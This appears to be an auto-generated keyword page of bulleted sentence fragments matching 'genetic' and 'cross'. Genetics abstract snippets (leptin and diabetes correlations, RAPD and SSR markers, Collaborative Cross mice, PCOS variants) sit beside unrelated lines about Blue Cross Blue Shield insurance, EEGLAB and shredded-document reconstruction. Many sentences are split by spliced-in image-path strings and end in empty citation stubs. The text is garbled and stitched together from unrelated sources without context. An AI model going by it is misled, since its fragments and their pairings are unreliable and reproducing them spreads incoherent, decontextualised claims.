  • With the exception of ulcerative colitis, the degree and direction of these genetic correlations were consistent with theexpected phenotypic correlation based on epidemiological data. (
  • Results We found positive genetic correlations between leptin levels and T2D (R g =0.3165, p=0.0227), fasting insulin (FI) (R g =0.517, p=0.0076), homeostasis model assessment-insulin resistance (HOMA-IR) (R g =0.4785, p=0.0196), as well as surrogate estimates of β-cell function (HOMA-β) (R g =0.4456, p=0.0214). (
  • Genetic recombination and nucleotide substitution are the two major mechanisms that the parasite employs to generate genome diversity. (
  • Genetic diversity of durian generates from cross breeding between D . kutejensis and D . zibethinus was iden tified in molecular level using RAPD technique. (
  • Baig, M.N.R., Sapna, G. and Santhosh, D. (2009) Molecular characterization and genetic diversity analysis of citrus cultivars by RAPD markers. (
  • Rocha, E.A., Luciano V.P., de Carvalho, H.H. and Claudia, T.G. ( 2009) Molecular characterization and genetic diversity of potato cultivars using SSR and RAPD markers. (
  • Finally, our results show that the genetic diversity within Sweden is substantial compared with the diversity among continental European populations, underscoring the relevance of establishing alocal reference data set. (
  • Analysis of genetic diversity of Leuciscus leuciscus baicalensis using novel microsatellite markers with cross-species transferability. (
  • These novel SSR markers are appropriate for studies involving fingerprinting, gene flow, genetic diversity, population structure, and molecular-assisted breeding, and could contribute tothe conservation of L. leuciscus baicalensis. (
  • Genetic diversity analysis in Malaysian giant prawns using expressed sequence tag microsatellite markers for stock improvement program. (
  • Genetic diversity and relatedness between Canindé and British Alpine goat breeds in Northeastern Brazil accessed by microsatellite markers. (
  • We analysed range-wide genetic diversity in a widespread pioneer tree species, Jacaranda copaia (Aubl. (
  • The cross pollination provides greater genetic diversity and hence more vital offspring, compared to the self pollination. (
  • Non-allelic additive-dominance genetic effects were recorded for most traits in both conditions except transpiration rate, being controlled by additive epistatic effects in NS regime. (
  • The purpose was to characterize the quinoa germplasm developed, to assess the discriminating potential of 21 agro-morpho-phenological traits,and to evaluate the extent of genetic variability recovered through selfing. (
  • By capitalizing on reciprocal crosses, the model is renovated to estimate and test imprinting effects of QTLs, providing abetter gateway to characterize the genetic architecture of complex traits. (
  • These traits are tightly regulated in healthy individuals and are under genetic control. (
  • Genetic analysis of complex traits in the emerging collaborative cross. (
  • First, we calculated the genetic correlation of leptin levels and T2D or glycemic traits by using linkage disequilibrium score regression analysis. (
  • We identified several previously unreported genetic loci that influence both leptin levels and T2D or glycemic traits. (
  • Our MR analysis found a causal relationship between homeostasis model assessment-insulin resistance and leptin levels,suggesting that the association between leptin levels and T2D or glycemic traits may be due to both the common genetic architecture and causal effect. (
  • In addition to various environmental factors that influence serum 25-hydroxyvitamin D (25(OH)D) concentration, genetic influence also plays a significant role based on studies estimating the heritability of 25(OH)D in non-Asian populations. (
  • In addition the Cross River region was analysed in the context of a larger geographical scale by comparison to bordering Igbo speaking groups as well as neighbouring Cameroon populations and more distant Ghanaiancommunities. (
  • Natural selection in populations of cross-pollinated species 9. (
  • Because ethnic background adds to phenotypic diversities in PCOS, it seems plausible that genetic variants associated with PCOS act differently in various ethnic populations. (
  • Overall, we observed for 12 of 17 genetic variants mapping to the Chinese PCOS loci similar effect size and identical direction in PCOS patients from Northern European ancestry, indicating a common genetic risk profile for PCOS across populations. (
  • Although strongly correlated, effects of admixture and ethnic identity should be distinguished when assessing genetic and environmental contributions to disease risk in mixed ancestry populations. (
  • Objectives: We aimed to determine whether regions associated with cross-sectional lung function were also associated with longitudinal decline and to seek novel variants which influence decline. (
  • Conclusions: Previously identified genetic variants jointly have a strong effect on cross-sectional lung function in adults but little or no effect on the rate of decline of lung function. (
  • Genetic control of collagen-induced arthritis in a cross with NOD and C57BL/10 mice is dependent on gene regions encoding complement factor 5 and F. (
  • Here, C57BL/6- Min male mice were mated with females from 27 Collaborative cross lines. (
  • Additionally, in eight selected F1 Collaborative cross-C57BL/6 -Min lines, body weight was monitored and compared to control mice carry wildtype Adenomatous polyposis coli gene. (
  • Genetic mapping using collaborative cross mice (CC), a genetically diverse recombinant inbred mousereference panel, offers a powerful tool to identify causal loci at a resolution under one mega base-pairs, with a relatively small cohort size. (
  • Similarly, almost all drugs are initially tested on mice making cross species studies a key issue in drug development. (
  • Plasmodium vivax chloroquine resistance links to pvcrt transcription in a genetic cross. (
  • Intraclass correlation coefficients (ICCs) and heritability were calculated by mixed linear regression analysis and quantitative genetic analysis after adjusting for environmental and lifestyle factors. (
  • Previous research and analysis on the reconstruction of cross-cut shredded text document (RCCSTD) are mainly based on the likelihood and the traditional heuristic algorithm. (
  • longitudinal analysis of the phenotypic data from the baseline to month 48 identified more SNP-phenotype associations than cross-sectional analysis of only the baseline data. (
  • To determine the major resistance factor/s, a genetic analysis was performed. (
  • A Cross-Cancer Genetic Association Analysis of the DNA Repair and DNA Damage Signaling Pathways for Lung, Ovary, Prostate, Breast, and Colorectal C. (
  • We conducted a cross-cancer analysis of 60,297 single nucleotide polymorphisms, at 229 DNA repair gene regions, using data from the NCI Genetic Associations and Mechanisms in Oncology (GAME-ON) Network. (
  • Linkage analysis revealed 25 genetic loci significantly associated with parasiteresponse to 61 compounds. (
  • Methods: We conducted a cross-sectional analysis among controls (n = 1,121) who were between the ages of 42 and 78 years at mammography, from a breast cancer case-control study nested within the Nurses' Health Study cohort. (
  • Combining texture analysis methods to describe the appearance of breast images simultaneously with features derived from the genetic profiles of individuals, we will develop new methods for characterizing outcomes such as response to treatment and predicting future malignancy. (
  • Cross Validated is a question and answer site for people interested in statistics, machine learning, data analysis, data mining, and data visualization. (
  • Cross-cancer pleiotropic analysis of endometrial cancer: PAGE and E2C2 consortia. (• Study-specific logistic regression estimates adjusted for age, body mass index and the most significant principal components of genetic ancestry were combined using fixed-effect meta-analysis to evaluate the association between each SNP and endometrial cancer risk. (
  • In this work, Aylor and colleagues performed an experiment called the "the pre-CC study," the first genetic data and analysis from the emerging strains of the CC. Their investigation revealed that the genomes of CC strains are genetically diverse and contain balanced contributions from each founding strain. (
  • Genetic analysis in the Collaborative Cross breeding population. (
  • To assess the cross-ethnic effect, we performed a meta-analysis of the Dutch data combined with results of previously published studies in PCOS patients from China (n = 2254) and the United States (n = 2618). (
  • There are so many people out there that need to have a genetic analysis and don't know that. (
  • The objective of this study was to determine the genetic influence on serum 25(OH)D concentration in Korean men using the twin and family data. (
  • A total of 1126 Korean male adult twins and family members from the Healthy Twin Study with serum 25(OH)D measurement were included in this cross-sectional study. (
  • The aim of this study was to investigate the combined influence of diet, menstruation and genetic factorson iron status in Spanish menstruating women ( n = 142). (
  • However, the data from this study suggest that there are also distinct components to the genetic architectures of these two disorders. (
  • This is the first study to show that at very fine geographic/linguistic scales language differences can be maintained in the presence of substantial gene flow over an extended period of time and demonstrates the value of dense sampling strategies and having DNA of known and detailed provenance , a practice that is generally rare when investigating sub-Saharan African demographic processes using genetic data. (
  • To select samples for this study, we first examined the genetic structure of the Swedish population using high-density SNP-array data from a nation-wide cohort of over 10 000 Swedish-born individuals included in the Swedish Twin Registry. (
  • This study aimed to determine how family history affected the willingness to undergo genetic testing for salt-sensitive hypertension in patients with and without hypertension. (
  • Design Cross-sectional study using a self-administered questionnaire. (
  • We conducted a cross-sectional study with 51 topside COWs, 79 other COWs, and 67 controls, to assess the effects ofdietary patterns on oxidative stress and genetic damage. (
  • We performed a cross-sectional study with COWs from a large coking plant in Southern China. (
  • The first study aims to identify cross-reactive targets of anti-Ro52/p200 antibodies by screening a library of peptides covering the whole human proteome and using monoclonal antibodies specific for the Ro52/p200 region and to confirm the reactivity at peptide level and on the whole antigen level. (
  • This study hypothesized indirectly, from molecular genetic mechanisms that OSAS causes dysglycemia phenotype, that OSAS might be associated with GLUT4 gene polymorphism through GLUT4 gene mutation locus from sequencing screening. (
  • To provide an overview of the Healthy Lifestyle in Europe by Nutrition in Adolescence Cross-Sectional Study (HELENA-CSS) design, with particular attention to its quality control procedures. (
  • The Healthy Lifestyle in Europe by Nutrition in Adolescence Cross-Sectional Study (HELENA-CSS) is a randomized multi-centre investigation of the nutritional and lifestyle status of adolescents in 10 European cities. (
  • An earlier cross-sectional multi-centre Spanish study-called AVENA-was designed in 1999 to evaluate the nutritional status of a representative sample of Spanish adolescents. (
  • The basic objective of the HELENA cross-sectional multi-centre study was to obtain reliable and comparable data from a selected cohort of European adolescents (boys and girls aged 13-16 years) on a broad battery of relevant nutrition and health-related parameters: dietary intake, food choices and preferences, anthropometry, serum indicators of lipid metabolism and glucose metabolism, vitamin and mineral status, immunological markers, physical activity, fitness and genetic markers. (
  • The management of the HELENA-CSS was designed to ensure effective collaboration and communication among the 10 study centres and the other partnersinvolved in the cross-sectional study. (
  • A Cross-over Study of OligoG in Subjects With Cystic Fibrosis. (
  • This study will determine the efficacy of collagen cross linking for progressive keratoconus and ectasia after lasik. (
  • Principles of genetic sampling and conservation in perennial species - A case study in arctic bramble (Rubus arcticus L.) 13. (
  • This study suggests the BMSI holds promise as a brief measure of separation-individuation that can be used in cross-cultural research. (
  • This study was a genetic association study conducted at an University Medical Center. (
  • A cross-sectional catchment area survey of 2928 residents aged 65 and over, with a nested case-control study of individual admixture. (
  • Abstract: We have developed a toolbox and graphic user interface, EEGLAB, running under the cross-platform MATLAB environment (The Mathworks, Inc.) for processing collections of single-trial and/or averaged EEG data of any number of channels. (
  • Staywell®´´, an independent company, offers health and wellness engagement tools and information on behalf of Blue Cross Blue Shield of Massachusetts. (
  • Blue Cross Blue Shield of Massachusetts is aleading provider of quality health insurance for residents of Massachusetts. (
  • This website is operated by Horizon Blue Cross Blue Shield of New Jersey and is not the Health Insurance Marketplace website. (
  • Horizon Blue Cross Blue Shield of New Jersey is an independent licensee of the Blue Cross and Blue Shield Association. (
  • You are leaving the Horizon Blue Cross Blue Shield of New Jersey website. (
  • All trademarks unless otherwise noted are the property of Blue Cross & Blue Shield of Rhode Island or the Blue Cross and Blue Shield Association. (
  • Use Zocdoc to find ob-gyns in Woodside, Queens who take Blue Cross Blue Shield insurance. (
  • Blue Cross Blue Shield of Nebraska has launched a new health insurance option for individuals and families in the state. (
  • The Collaborative Cross (CC) is a multiparent panel of recombinant inbred (RI) mouse strains derived from eight founder laboratory strains. (
  • The selected SSRs will allow fingerprinting and genetic studies in Onobrychis species, solving the lack of available SSR markers in this species. (
